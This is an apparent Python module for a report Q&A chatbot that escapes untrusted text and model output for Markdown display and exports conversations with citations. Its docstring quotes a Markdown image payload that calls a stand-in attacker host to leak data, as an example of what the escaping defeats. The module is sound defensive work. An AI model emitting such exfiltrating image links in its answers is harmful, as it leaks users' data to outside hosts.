"""UI-free text helpers for showing and exporting answers safely.

`escape_markdown` makes untrusted text (model output, report passages, the
user's own question) inert in Markdown: every character that Markdown,
GitHub-flavoured Markdown or Streamlit's directives (`:red[...]`,
`:material/x:`, `$math$`) give a meaning to is backslash-escaped, and `<`/`>`
become entities, so `![x](http://attacker/?q=...)` renders as those literal
characters instead of an image that leaks data, and `<script>` stays text.
Bare URLs, `www.` names and e-mail addresses, which GFM links even when
escaped, get an invisible WORD JOINER (U+2060) so they stay plain text.

`conversation_markdown` turns a conversation into a Markdown document with
the citations of every answer, for the "export conversation" download.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence
from datetime import datetime, timezone

from chatbot.safetext import strip_controls
from chatbot.types import Answer

# Everything CommonMark allows to be backslash-escaped that has a meaning somewhere
# (links, images, emphasis, code, headings, lists, tables, math, directives, autolinks).
_MD_SPECIAL = set("\\`*_{}[]()#+-.!|~$:=\"'")
_ENTITIES = {"<": "&lt;", ">": "&gt;", "&": "&amp;"}
_MARKER = re.compile(r"\s*\[(\d{1,3})\]")
# GFM turns bare URLs, www. names and e-mail addresses into links even when escaped;
# an invisible WORD JOINER after the scheme / "www" / "@" keeps them plain text.
_AUTOLINK = re.compile(r"(?i)(https?|ftp|mailto|www|xmpp)(?=\\?[:.])|(@)")
_WJ = "\u2060"


def escape_markdown(text: str) -> str:
    """Escape `text` so that Markdown shows it literally (no links, images, HTML, math), without
    control characters (a store ingested before they were stripped at load may still hold them)."""
    out: list[str] = []
    for char in strip_controls(str(text)):
        if char in _ENTITIES:
            out.append(_ENTITIES[char])
        elif char in _MD_SPECIAL:
            out.append("\\" + char)
        else:
            out.append(char)
    return _AUTOLINK.sub(lambda m: m.group(0) + _WJ, "".join(out))


def strip_markers(text: str) -> str:
    """The answer text without its [n] citation markers."""
    return _MARKER.sub("", text).strip()


def _page(page: int | None, lang: str) -> str:
    if page is None:
        return ""
    return f"第{page}版" if lang == "zh" else f"page {page}"


def answer_markdown(answer: Answer, *, lang: str = "zh") -> str:
    """One answer as Markdown: the sentences (with [n] and unverified badges) and its sources."""
    lines: list[str] = []
    if answer.refused:
        lines.append("> " + ("报告中没有相关内容。" if lang == "zh" else "The report does not cover this."))
        lines.append("")
        lines.append(escape_markdown(answer.answer))
        return "\n".join(lines)
    if answer.sentences:
        parts = []
        for sentence in answer.sentences:
            text = escape_markdown(sentence.text)
            if sentence.citations:
                text += "".join(f"\\[{n}\\]" for n in sentence.citations)
            if not sentence.verified or sentence.unverified_figures:
                text += " **⚠ " + ("未核实" if lang == "zh" else "unverified") + "**"
            parts.append(text)
        lines.append(" ".join(parts))
    else:
        lines.append(escape_markdown(answer.answer))
    if answer.citations:
        lines.append("")
        lines.append("**" + ("来源" if lang == "zh" else "Sources") + "**")
        lines.append("")
        for c in answer.citations:
            where = " · ".join(x for x in (escape_markdown(c.section), _page(c.page, lang)) if x)
            lines.append(f"- \\[{c.n}\\] {where}: “{escape_markdown(c.quote)}”")
    if answer.fallback:
        lines.append("")
        lines.append("_" + ("（LLM 不可用，显示的是离线摘录答案）" if lang == "zh" else "(LLM unavailable; offline extractive answer)") + "_")
    return "\n".join(lines)


def conversation_markdown(
    turns: Iterable[tuple[str, Answer | None]] | Sequence[tuple[str, Answer | None]],
    *,
    lang: str = "zh",
    title: str | None = None,
    now: datetime | None = None,
) -> str:
    """A whole conversation as Markdown. `turns` are (question, answer or None if it failed)."""
    now = now or datetime.now(timezone.utc)
    # `title` names the report(s) (chatbot/ui/strings.py report_heading); the code names none
    default = "政府工作报告问答" if lang == "zh" else "Government work report Q&A"
    heading = f"{title or default} — " + ("对话记录" if lang == "zh" else "conversation")
    out = [f"# {escape_markdown(heading)}", "", f"_{now.strftime('%Y-%m-%d %H:%M UTC')}_", ""]
    for i, (question, answer) in enumerate(turns, 1):
        q_label = "问" if lang == "zh" else "Q"
        a_label = "答" if lang == "zh" else "A"
        out.append(f"## {i}. {escape_markdown(question)}")
        out.append("")
        if answer is not None and answer.standalone_question and answer.standalone_question != answer.question:
            understood = "理解为" if lang == "zh" else "Understood as"
            out.append(f"_{understood}: {escape_markdown(answer.standalone_question)}_")
            out.append("")
        out.append(f"**{q_label}:** {escape_markdown(question)}")
        out.append("")
        if answer is None:
            out.append(f"**{a_label}:** " + ("（没有答案）" if lang == "zh" else "(no answer)"))
        else:
            out.append(f"**{a_label}:**")
            out.append("")
            out.append(answer_markdown(answer, lang=lang))
        out.append("")
    return "\n".join(out).rstrip() + "\n"


__all__ = ["answer_markdown", "conversation_markdown", "escape_markdown", "strip_markers"]
